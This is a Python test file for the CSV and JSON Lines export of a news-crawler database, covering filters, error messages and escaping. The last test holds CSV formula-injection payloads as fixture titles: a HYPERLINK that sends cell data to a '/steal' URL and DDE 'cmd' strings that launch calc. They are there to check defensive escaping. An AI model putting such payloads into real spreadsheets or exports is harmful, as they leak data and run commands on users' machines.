"""``newscrawl export``: JSON Lines and CSV of a real crawled database, with filters."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

from tests.conftest import newscrawl
from tests.conftest import rows as stored


def test_jsonl_has_every_article_with_json_columns_decoded(crawled_db):
    db, manifest = crawled_db
    result = newscrawl("export", "--db", str(db), "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    rows = stored(db)
    assert [r["url"] for r in records] == [r["url"] for r in rows]
    assert set(records[0]) == set(rows[0].keys())
    by_title = {r["title"]: r for r in records}
    for a in manifest["articles"]:
        if a["title"] in by_title:
            assert by_title[a["title"]]["authors"] == [a["author"]]
            assert isinstance(by_title[a["title"]]["extras"], dict)
    assert "Exported 10 articles." in result.stderr


def test_csv_round_trips_multiline_bodies_and_unicode(crawled_db, tmp_path):
    db, _ = crawled_db
    out = tmp_path / "articles.csv"
    result = newscrawl("export", "--db", str(db), "--format", "csv", "-o", str(out))
    assert result.returncode == 0, result.stderr
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    rows = stored(db)
    assert len(table) == len(rows) == 10
    for got, want in zip(table, rows):
        assert got["text"] == want["text"] and "\n" in got["text"]
        assert got["title"] == want["title"]
    assert any("达沃斯" in r["title"] for r in table)


def test_since_and_language_filter(crawled_db):
    db, manifest = crawled_db
    result = newscrawl("export", "--db", str(db), "--since", "2025-06-23", "--language", "ZH")
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["language"], r["published"]) for r in records] == [("zh", "2025-06-27")]

    result = newscrawl("export", "--db", str(db), "--since", "2025-06-23")
    dates = [json.loads(line)["published"] for line in result.stdout.splitlines()]
    # The expectation comes from the fixture site's own dates, not from the database.
    want = [a["date"] for a in manifest["articles"] if a["date"] >= "2025-06-23"]
    assert sorted(dates) == sorted(want) and 0 < len(dates) < 10


def test_errors_say_how_to_fix(crawled_db, tmp_path):
    db, _ = crawled_db
    missing = newscrawl("export", "--db", str(tmp_path / "none.db"))
    assert missing.returncode == 1 and "crawl first" in missing.stderr
    assert not (tmp_path / "none.db").exists()
    bad_date = newscrawl("export", "--db", str(db), "--since", "June")
    assert bad_date.returncode == 2 and "'June' does not match the format '%Y-%m-%d'" in bad_date.stderr
    nowhere = newscrawl("export", "--db", str(db), "-o", str(tmp_path / "no" / "dir.jsonl"))
    assert nowhere.returncode == 1 and "cannot write" in nowhere.stderr
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("create table t (x)").connection.close()
    not_ours = newscrawl("export", "--db", str(other))
    assert not_ours.returncode == 1 and "newscrawl database" in not_ours.stderr


def test_csv_cells_a_spreadsheet_would_run_are_escaped(tmp_path):
    """Pages of a hostile site whose titles and bodies are spreadsheet formulas (OWASP CSV
    injection) are crawled and stored as they are; CSV quotes them, JSON Lines does not."""
    from tests.conftest import FAST, crawl, query
    from tests.hostile import article_html, article_path, hostile, html, listing

    formulas = {1: '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click for the full story")',
                2: "+cmd|' /C calc'!A0 said the minister", 3: "@SUM(1+1)*cmd|' /C calc'!A0",
                4: "-2+3+cmd|' /C calc'!A0"}
    routes = {article_path(n): html(article_html(n, title=title)) for n, title in formulas.items()}
    body = "<p>=1+1 is where this story starts: a sum on the blackboard of a village school.</p>"
    body += "".join(f"<p>Paragraph {i}: the teacher explained the lesson, and the pupils "
                    f"wrote it down before the harvest holidays began.</p>" for i in range(4))
    routes[article_path(5)] = html(article_html(5, body=body))
    routes["/World/"] = html(listing([article_path(n) for n in range(1, 6)]))
    db = tmp_path / "a.db"
    with hostile(routes) as (_server, base):
        assert crawl(base, db).returncode == 0
    titles = {r["title"] for r in query(db, "select title from articles")}
    assert set(formulas.values()) <= titles  # stored as the site wrote them

    out = tmp_path / "articles.csv"
    assert newscrawl("export", "--db", str(db), "--format", "csv", "-o", str(out)).returncode == 0
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert {r["title"] for r in table} == {"'" + t for t in formulas.values()} | {"Story number 5"}
    assert [r["text"] for r in table if r["text"].startswith("'=1+1 is where")]
    assert not [cell for r in table for cell in r.values() if cell[:1] in ("=", "+", "@")]
    assert all(r["simhash"].lstrip("-").isdigit() for r in table)  # numbers stay numbers
    jsonl = newscrawl("export", "--db", str(db)).stdout
    assert {json.loads(line)["title"] for line in jsonl.splitlines()} == titles
